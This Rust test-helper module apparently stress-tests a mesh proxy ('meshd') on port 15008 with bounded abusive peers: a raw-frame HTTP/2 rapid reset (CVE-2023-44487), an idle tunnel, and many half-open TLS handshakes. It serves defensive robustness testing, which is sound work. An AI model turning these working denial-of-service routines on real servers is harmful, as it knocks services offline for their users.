//! Abusive peers for meshd's :15008, bounded in count and time: HTTP/2 rapid reset, an idle
//! tunnel, and half-open TLS handshakes. Each prints one summary line the tests read.

use std::{
    io::Write,
    net::TcpStream,
    sync::Arc,
    time::{Duration, Instant},
};

use rustls::pki_types::ServerName;

fn runtime() -> Result<tokio::runtime::Runtime, String> {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| e.to_string())
}

/// A verified-identity TLS connection to meshd's :15008, speaking h2 (ALPN).
async fn tls(
    addr: &str,
    identity: (&str, &str),
) -> Result<tokio_rustls::client::TlsStream<tokio::net::TcpStream>, String> {
    let config = super::hbone::config(Some(identity))?;
    let tcp = tokio::net::TcpStream::connect(addr)
        .await
        .map_err(|e| e.to_string())?;
    let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
    let name = ServerName::try_from("meshd").expect("static name");
    connector
        .connect(name, tcp)
        .await
        .map_err(|e| e.to_string())
}

/// A verified-identity HTTP/2 session; the connection task's handle.
async fn session(
    addr: &str,
    identity: (&str, &str),
) -> Result<
    (
        h2::client::SendRequest<bytes::Bytes>,
        tokio::task::JoinHandle<Result<(), h2::Error>>,
    ),
    String,
> {
    let tls = tls(addr, identity).await?;
    let (send, conn) = h2::client::handshake(tls)
        .await
        .map_err(|e| e.to_string())?;
    Ok((send, tokio::spawn(conn)))
}

/// One HTTP/2 frame: 9-byte header, then the payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// CVE-2023-44487 as an attacker sends it, in raw frames: HEADERS (a CONNECT to `authority`)
/// and RST_STREAM(CANCEL) for stream after stream, `n` of them, written in batches without
/// waiting for answers. Prints how many went out and how meshd ended the connection.
pub fn rapid_reset(
    addr: &str,
    authority: &str,
    identity: (&str, &str),
    n: usize,
) -> Result<(), String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    runtime()?.block_on(async {
        let (mut rd, mut wr) = tokio::io::split(tls(addr, identity).await?);
        // HPACK: `:method` (static index 2) and `:authority` (1), literal values, no indexing.
        let mut block = vec![0x02, 7];
        block.extend_from_slice(b"CONNECT");
        block.extend_from_slice(&[0x01, authority.len() as u8]);
        block.extend_from_slice(authority.as_bytes());
        let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        preface.extend(frame(0x4, 0, 0, &[]));
        wr.write_all(&preface).await.map_err(|e| e.to_string())?;
        // The reader reports a GOAWAY's error code, or the end of the connection.
        let reader = tokio::spawn(async move {
            let mut buf = Vec::new();
            let mut chunk = [0u8; 16384];
            loop {
                while buf.len() >= 9 {
                    let len = (usize::from(buf[0]) << 16)
                        | (usize::from(buf[1]) << 8)
                        | usize::from(buf[2]);
                    if buf.len() < 9 + len {
                        break;
                    }
                    if buf[3] == 0x7 && len >= 8 {
                        let code = u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]);
                        return format!("GOAWAY error code {code:#x}");
                    }
                    buf.drain(..9 + len);
                }
                match rd.read(&mut chunk).await {
                    Ok(0) | Err(_) => return "connection closed without GOAWAY".to_string(),
                    Ok(k) => buf.extend_from_slice(&chunk[..k]),
                }
            }
        });
        let started = Instant::now();
        let mut sent = 0;
        'out: while sent < n {
            let mut batch = Vec::new();
            for _ in 0..100.min(n - sent) {
                let stream = 1 + 2 * sent as u32;
                batch.extend(frame(0x1, 0x4, stream, &block));
                batch.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
                sent += 1;
            }
            if wr.write_all(&batch).await.is_err() || reader.is_finished() {
                break 'out;
            }
        }
        let _ = wr.flush().await;
        let how = match tokio::time::timeout(Duration::from_secs(10), reader).await {
            Ok(Ok(how)) => how,
            _ => "still open".to_string(),
        };
        println!(
            "rapid-reset sent {sent} in {} ms; {how}",
            started.elapsed().as_millis()
        );
        Ok(())
    })
}

/// Opens a session, opens no stream, and waits up to `secs` for meshd to close it.
pub fn idle(addr: &str, identity: (&str, &str), secs: u64) -> Result<(), String> {
    runtime()?.block_on(async {
        let (send, conn) = session(addr, identity).await?;
        let started = Instant::now();
        let ended = tokio::time::timeout(Duration::from_secs(secs), conn).await;
        drop(send);
        match ended {
            Ok(_) => println!(
                "idle closed by meshd after {} ms",
                started.elapsed().as_millis()
            ),
            Err(_) => println!("idle still open after {secs} s"),
        }
        Ok(())
    })
}

/// Opens `n` TCP connections that each send the first bytes of a TLS ClientHello and nothing
/// more, holds them for `secs`, and prints how many meshd had closed by then.
pub fn half_hellos(addr: &str, n: usize, secs: u64) -> Result<(), String> {
    // A handshake record header announcing 512 bytes, then 4 of them.
    const PARTIAL: [u8; 9] = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc];
    let mut held = Vec::new();
    let mut failed = 0;
    for _ in 0..n {
        match TcpStream::connect(addr) {
            Ok(mut s) => {
                let _ = s.write_all(&PARTIAL);
                let _ = s.set_nonblocking(true);
                held.push(s);
            }
            Err(_) => failed += 1,
        }
    }
    std::thread::sleep(Duration::from_secs(secs));
    let closed = held
        .iter()
        .filter(|s| {
            let mut b = [0u8; 1];
            // Closed by meshd: EOF (0) or a reset; still open: WouldBlock.
            !matches!(s.peek(&mut b), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
        })
        .count();
    println!(
        "half-hellos opened {} (connect failed {failed}); closed by meshd {closed}",
        held.len()
    );
    Ok(())
}
